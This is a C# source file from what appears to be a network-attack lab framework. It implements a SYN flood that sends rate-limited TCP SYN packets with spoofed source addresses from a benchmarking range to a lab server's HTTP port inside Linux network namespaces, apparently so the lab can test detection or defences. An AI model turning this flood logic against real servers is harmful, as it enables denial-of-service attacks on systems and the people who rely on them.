using System.Diagnostics;
using Uncloak.Core.Events;
using Uncloak.Core.Wire;
using Uncloak.Lab.Topology;
using Uncloak.Linux.Namespaces;

namespace Uncloak.Lab.Attacks;

/// <summary>
/// SYNs to the victim's port from random sources in <see cref="LabNames.SpoofedNetwork"/>, at <see cref="AttackLimits.Rate"/>
/// per second. The server's SYN-ACKs are routed to the attacker namespace, which does not forward them, so the half-open
/// connections are never completed or reset: they fill the SYN queue until they time out.
/// </summary>
public sealed class SynFlood : IAttack
{
    public AttackKind Kind => AttackKind.SynFlood;

    public AttackStats Run(LabNames names, AttackLimits limits, CancellationToken cancel)
    {
        using var raw = NetNamespace.Run(names.Attacker, () => new RawTcpSocket(receiveTimeoutMillis: 20));
        var server = NetAddress.FromIPAddress(LabNames.ServerAddress);
        uint spoofBase = NetAddress.Parse("198.18.128.0").V4;
        return Pacer.Flood(limits, _ =>
        {
            // Hosts 1..32766 of the /17: never the network or broadcast address.
            var source = NetAddress.FromV4(spoofBase + (uint)Random.Shared.Next(1, 1 << 15));
            raw.Send(new TcpPacket
            {
                Source = source, Destination = server, SourcePort = (ushort)Random.Shared.Next(1024, 65536),
                DestinationPort = LabNames.HttpPort, Sequence = (uint)Random.Shared.NextInt64(0, uint.MaxValue),
                Flags = TcpFlags.Syn, Window = 64240, Mss = 1460,
            });
        }, cancel);
    }
}
